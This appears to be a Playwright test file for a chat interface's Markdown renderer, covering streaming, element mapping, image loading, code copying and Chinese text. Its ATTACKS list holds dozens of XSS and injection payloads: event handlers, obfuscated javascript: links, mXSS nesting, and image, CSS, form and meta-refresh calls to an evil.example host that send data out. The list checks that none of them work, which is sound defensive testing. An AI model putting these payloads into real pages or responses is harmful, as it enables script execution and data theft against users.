"""Text in messages: Markdown that streams, and text that wants to be more than text."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Browser, expect

from browser.views.driver import Stage

DOCUMENT = """# Title

A paragraph with **bold**, *italic*, ~~gone~~, `code` and [a link](https://example.com "t").
A second line, an autolink https://example.com/path and an entity: &amp; &#39; &copy;

| Name | Count |
| :--- | ---: |
| one | 1 |
| two **b** | 2 |

1. first
2. second
   - inner one
   - inner two

3. third after a gap

- [x] done
- [ ] open

> quoted
> more

```python
def f(x):
    return "```" if x else None

print(f(1))
```

~~~
plain
~~~

---

Text <b>bold</b> and <kbd>Ctrl</kbd> and <script>bad()</script>.

    indented code

中文段落，**重点**，以及`代码`。

End.[^1] Text [ref][r] here.

[r]: https://example.com/ref
"""

ATTACKS = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "<svg onload='window.hit = 1'></svg>",
    "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>",
    "<a href='javascript:window.hit = 1'>x</a>",
    "[x](javascript:window.hit=1)",
    "[x](JaVaScRiPt:window.hit=1)",
    "[x](java\tscript:window.hit=1)",
    "[x](&#106;avascript:window.hit=1)",
    "[x](  javascript:window.hit=1)",
    "[x](data:text/html,<script>window.hit=1</script>)",
    "[x](vbscript:window.hit=1)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.com/1)",
    "<javascript:window.hit=1>",
    "![x](javascript:window.hit=1)",
    "![x](https://evil.example/steal?q=secret)",
    "![x][e]\n\n[e]: https://evil.example/steal?q=secret",
    "[![x](https://evil.example/steal)](https://evil.example/)",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><input name=q autofocus></form>",
    "<details open ontoggle='window.hit = 1'>x</details>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    "<b onclick='window.hit=1'>x</b>",
    "<b/onmouseover=window.hit=1>x</b>",
    "```html\n<script>window.hit = 1</script>\n```",
    '```" onmouseover="window.hit=1\ncode\n```',
    "| a |\n| --- |\n| <img src=x onerror=window.hit=1> |",
    "# <img src=x onerror=window.hit=1>",
    "<div data-part='confirmation'><button data-action='confirm'>x</button></div>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<!--><script>window.hit=1</script>-->",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
]

ALLOWED = """
p h3 h4 h5 h6 a b i u s em strong del sub sup kbd mark small br hr ul ol li input blockquote
table thead tbody tr th td pre code div span button article
"""


def written(stage: Stage) -> str:
    return stage.in_root("return root.querySelector('[data-role=assistant] .ph-text').innerHTML")


def write_whole(stage: Stage, text: str) -> None:
    stage.run("chat.answer(); chat.feed(*text(value)); chat.set_status('ready')", value=text)
    stage.settle()


@pytest.mark.parametrize("step", [1, 3, 7, 50])
def test_streamed_text_ends_as_text_that_came_whole(stage: Stage, step: int) -> None:
    write_whole(stage, DOCUMENT)
    whole = written(stage)
    stage.reset()
    stage.run(
        """
chat.answer()
chat.feed({"type": "text-start", "id": "t"})
paint()
for at in range(0, len(value), step):
    chat.feed({"type": "text-delta", "id": "t", "delta": value[at : at + step]})
    paint()
chat.feed({"type": "text-end", "id": "t"})
paint()
""",
        value=DOCUMENT,
        step=step,
    )
    assert written(stage) == whole


def test_markdown_becomes_the_right_elements(stage: Stage) -> None:
    write_whole(stage, DOCUMENT)
    text = stage.find("[data-role=assistant] .ph-text")
    assert text.locator("h3").inner_text() == "Title"
    assert text.locator("table tbody tr").count() == 2
    assert text.locator("td[data-align=right]").count() == 2
    assert text.locator("ol > li").count() == 3
    assert text.locator("li li").count() == 2
    assert text.locator("input[type=checkbox][disabled]").count() == 2
    code = text.locator("code[data-language=python]")
    assert code.inner_text() == 'def f(x):\n    return "```" if x else None\n\nprint(f(1))'
    link = text.locator("a", has_text="a link")
    assert link.get_attribute("rel") == "noopener noreferrer"
    assert link.get_attribute("target") == "_blank"
    assert text.locator("a", has_text="ref").get_attribute("href") == "https://example.com/ref"
    assert "& ' ©" in text.inner_text()
    assert "<script>bad()</script>" in text.inner_text()


def test_what_nests_too_deeply_to_be_read_is_shown_as_it_came(stage: Stage) -> None:
    deep = "> " * 8000 + "the end"
    write_whole(stage, deep)
    assert stage.find("[data-role=assistant] .ph-text").text_content() == deep


def test_earlier_blocks_are_not_made_again(stage: Stage) -> None:
    stage.run(
        """
chat.answer()
chat.feed({"type": "text-start", "id": "t"})
chat.feed({"type": "text-delta", "id": "t", "delta": "# One\\n\\nTwo\\n\\n- a\\n- b\\n- c"})
paint()
"""
    )
    stage.in_root(
        """
const text = root.querySelector("[data-role=assistant] .ph-text");
window.kept = [...text.children, ...text.querySelectorAll("li")];
window.made = 0;
window.watch = new MutationObserver(list => list.forEach(one => made += one.removedNodes.length));
watch.observe(text, {childList: true, subtree: true});
"""
    )
    stage.run(
        """
more = ["c more", "\\n- d", "\\n\\nThree ", "and more", "\\n\\n```js\\nlet", " a = 1\\nlet b"]
for delta in more:
    chat.feed({"type": "text-delta", "id": "t", "delta": delta})
    paint()
"""
    )
    assert stage.in_root("return kept.every(node => root.contains(node))")
    assert stage.page.evaluate("watch.disconnect(), made") == 0
    assert stage.find(".ph-text li").all_inner_texts() == ["a", "b", "cc more", "d"]
    assert stage.find(".md-code code").inner_text() == "let a = 1\nlet b"


@pytest.mark.parametrize(
    ("text", "shown", "hidden"),
    [
        ("some **bol", "some bol", "**"),
        ("a `cod", "a cod", "`"),
        ("see [the li", "see the li", "["),
        ("see [the link](https://exam", "see the link", "https"),
        ("para\n-", "para", "-"),
        ("para\n1.", "para", "1."),
    ],
)
def test_half_written_marks_do_not_flicker(
    stage: Stage, text: str, shown: str, hidden: str
) -> None:
    stage.run(
        """
chat.answer()
chat.feed({"type": "text-start", "id": "t"}, {"type": "text-delta", "id": "t", "delta": value})
""",
        value=text,
    )
    stage.settle()
    inner = stage.find("[data-role=assistant] .ph-text").inner_text()
    assert inner.strip() == shown
    assert hidden not in inner


def test_text_from_a_model_does_nothing(stage: Stage) -> None:
    whole = "\n\n".join(ATTACKS)
    for text in [*ATTACKS, whole]:
        write_whole(stage, text)
        stage.run(
            """
chat.say(value)
chat.answer()
chat.feed({"type": "text-start", "id": "t"})
for letter in value:
    chat.feed({"type": "text-delta", "id": "t", "delta": letter})
chat.feed({"type": "reasoning-start", "id": "r"})
chat.feed({"type": "reasoning-delta", "id": "r", "delta": value})
""",
            value=text,
        )
        stage.settle()
    found = stage.in_root(
        """
const all = [...root.querySelectorAll(".ph-text *")];
return {
  tags: [...new Set(all.map(node => node.localName))].filter(name => !arg.includes(name)),
  handlers: all.flatMap(node => node.getAttributeNames()).filter(name => name.startsWith("on")),
  links: all.filter(node => node.localName === "a").map(node => node.protocol),
  hit: window.hit ?? null,
  fakes: root.querySelectorAll(".ph-text [data-part], .ph-text [data-action=confirm]").length,
}""",
        ALLOWED.split(),
    )
    assert found["hit"] is None
    assert found["tags"] == []
    assert found["handlers"] == []
    assert found["fakes"] == 0
    assert set(found["links"]) <= {"https:", "http:", "mailto:", "tel:"}
    assert [url for url in stage.requests if "127.0.0.1" not in url] == []


def test_a_picture_loads_only_on_a_real_click(stage: Stage) -> None:
    dot = "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'/>"
    stage.page.route(
        "https://pictures.example/**",
        lambda route: route.fulfill(body=dot, content_type="image/svg+xml"),
    )
    write_whole(stage, "![A chart](https://pictures.example/chart.png)")
    picture = stage.find("button[data-action=load-image]")
    assert "pictures.example" in picture.inner_text()
    picture.evaluate("button => button.click()")
    assert stage.find("img.md-picture").count() == 0
    picture.click()
    assert stage.find("img.md-picture").get_attribute("alt") == "A chart"
    stage.page.unroute("https://pictures.example/**")


def test_a_picture_that_does_not_come_leaves_a_link(stage: Stage) -> None:
    stage.page.route("https://pictures.example/**", lambda route: route.abort())
    write_whole(stage, "![A chart](https://pictures.example/gone.png)")
    stage.find("button[data-action=load-image]").click()
    link = stage.find("a.md-picture-link")
    expect(link).to_have_text("A chart")
    expect(link).to_have_attribute("href", "https://pictures.example/gone.png")
    expect(stage.find("img.md-picture")).to_have_count(0)
    stage.page.unroute("https://pictures.example/**")


def test_where_the_policy_refuses_pictures_later_ones_are_links(browser: Browser) -> None:
    stage = Stage(browser, headers={"Content-Security-Policy": "img-src 'self' data:"})
    try:
        write_whole(stage, "![A chart](https://refused.example/1.png)")
        stage.find("button[data-action=load-image]").click()
        expect(stage.find("a.md-picture-link")).to_have_text("A chart")
        write_whole(stage, "![B](https://refused.example/2.png) ![C](https://other.example/3.png)")
        expect(stage.find("a.md-picture-link")).to_have_text(["A chart", "B"])
        expect(stage.find("button[data-action=load-image]")).to_have_count(1)
    finally:
        stage.close()


def test_code_can_be_copied(stage: Stage) -> None:
    stage.context.grant_permissions(["clipboard-read", "clipboard-write"])
    write_whole(stage, "```sh\nmake run\n```")
    stage.find("[data-action=copy-code]").click()
    stage.page.wait_for_function(
        "document.querySelector('stage-host').shadowRoot"
        ".querySelector('[data-action=copy-code]').textContent === 'Copied'"
    )
    assert stage.page.evaluate("navigator.clipboard.readText()") == "make run"


def test_what_a_person_typed_is_shown_as_typed(stage: Stage) -> None:
    stage.run("chat.say(value)", value="# not a title\n**not bold** <b>no</b>")
    stage.settle()
    bubble = stage.find("[data-role=user] .ph-text")
    assert bubble.inner_text() == "# not a title\n**not bold** <b>no</b>"
    assert bubble.locator("*").count() == 0


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "已打开 https://example.com/。还有**事**",
            '已打开 <a href="https://example.com/">https://example.com/</a>。还有<strong>事</strong>',
        ),
        (
            "见（https://example.com/a），谢谢",
            '见（<a href="https://example.com/a">https://example.com/a</a>），谢谢',
        ),
        (
            "https://zh.wikipedia.org/wiki/中文",
            '<a href="https://zh.wikipedia.org/wiki/%E4%B8%AD%E6%96%87">'
            "https://zh.wikipedia.org/wiki/中文</a>",
        ),
        ("**注意：**请先保存", "<strong>注意：</strong>请先保存"),
        ("这是**“重点”**内容", "这是<strong>“重点”</strong>内容"),
        ("**Note:**请看", "<strong>Note:</strong>请看"),
        ("**a *b* c：**d", "<strong>a <em>b</em> c：</strong>d"),
        ("**不要 `x**y`：**好", "<strong>不要 <code>x**y</code>：</strong>好"),
        ("2 * 3 * 4 个", "2 * 3 * 4 个"),
        ("snake_case_名称", "snake_case_名称"),
        ("**bold**, *it*", "<strong>bold</strong>, <em>it</em>"),
    ],
)
def test_chinese_text_reads_as_meant(stage: Stage, text: str, expected: str) -> None:
    write_whole(stage, text)
    inner = stage.in_root("return root.querySelector('[data-role=assistant] .ph-text p').innerHTML")
    plain = re.sub(r' (?:title|target|rel|class)="[^"]*"', "", inner)
    assert plain == expected
